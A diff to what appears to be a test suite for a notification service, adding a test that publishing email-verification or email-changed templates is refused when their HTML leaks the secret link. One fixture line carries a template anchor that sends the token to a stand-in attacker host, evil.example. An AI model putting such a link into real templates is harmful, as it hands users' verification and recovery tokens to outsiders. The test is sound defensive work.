@@ -301,6 +301,47 @@ describe('system templates: the secret goes where the service says', () => {
     expect(targetsOf(mail.html)).toEqual([]);
   });
 
+  it.each([
+    ['auth.email-verification', 'verificationUrl'],
+    ['security.email-changed', 'undoUrl'],
+  ])(
+    'guards the link of %s the same way: 403 for templates:manage, 422 for a link of its own',
+    async (key, name) => {
+      const variable = {
+        name,
+        type: 'url',
+        required: true,
+        sensitive: true,
+        sample: 'https://app.orion.test/x?token=s',
+      };
+      const evil = {
+        draft: {
+          variables: [variable],
+          content: {
+            en: {
+              EMAIL: {
+                subject: 'Action needed',
+                text: 'Go to [[secret]]',
+                html: `<p>[[secret|Go]]</p><a href="https://evil.example/?t={{${name}}}">Go</a>`,
+              },
+            },
+          },
+        },
+      };
+      const refused = await publish(key, { apiKey: editorKey }, evil);
+      expect({ status: refused.statusCode, code: refused.json().code }).toEqual({
+        status: 403,
+        code: 'PERMISSION_DENIED',
+      });
+      const invalid = await publish(key, { apiKey: systemKey }, evil);
+      expect({ status: invalid.statusCode, code: invalid.json().code }).toEqual({
+        status: 422,
+        code: 'TEMPLATE_INVALID',
+      });
+      expect((await stateOf(key)).versions).toBe(1);
+    },
+  );
+
   it('refuses a sender a system template whose link leads off the app (422), storing and sending nothing', async () => {
     const sender = (await service.apiKey(['notifications:send'])).key;
     const before = smtp.messages().length;
